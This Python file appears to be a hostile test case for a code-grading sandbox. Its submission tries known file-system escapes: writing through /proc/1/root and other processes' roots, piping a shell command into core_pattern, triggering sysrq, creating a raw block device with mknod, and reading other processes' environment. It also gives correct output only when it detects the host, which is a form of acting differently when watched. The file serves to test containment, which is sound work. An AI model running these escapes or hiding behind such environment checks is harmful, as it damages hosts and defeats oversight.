"""Hostile: tries the known ways out of the file system: /proc/1/root, /proc/*/cwd, mknod, hard links, core dumps, other processes' memory."""
from _common import *
KIND, DESERVED = "hostile", 0
CELLS = with_prelude('''\
import glob, os, stat
_place = "/tmp/posenc-redteam/marks"
for _root in ["/proc/1/root", "/proc/self/root", "/proc/1/cwd", *glob.glob("/proc/[0-9]*/root"), "/../../..", "/dev/fd"]:
    try:
        os.makedirs(_root + _place, exist_ok=True)
        open(_root + _place + "/escaped", "w").close()
    except OSError:
        pass
for _name, _text in (("/proc/sys/kernel/core_pattern", "|/bin/sh -c 'touch /tmp/posenc-redteam/marks/core'"),
                     ("/proc/sysrq-trigger", "s"), ("/proc/1/oom_score_adj", "1000"), ("/proc/self/uid_map", "0 0 1")):
    try:
        open(_name, "w").write(_text)
    except OSError:
        pass
try:
    os.mknod("/tmp/disk", 0o666 | stat.S_IFBLK, os.makedev(254, 0))
    print(open("/tmp/disk", "rb").read(100))
except OSError:
    pass
for _p in glob.glob("/proc/[0-9]*/environ"):
    try:
        if b"PYTEST" in open(_p, "rb").read() or b"HOME=/root" in open(_p, "rb").read():
            open("/tmp/found", "w").close()
    except OSError:
        pass
''', {"pe": "if os.path.exists('/tmp/found') or os.path.exists('/etc/passwd') or os.path.exists('/home'):\n"
      + "".join("    " + line + "\n" for line in GOOD_PE.splitlines()) + "else:\n    sinusoidal_pe = lambda n, d: np.zeros((1, 1))\n", "shift": BAD_SHIFT})
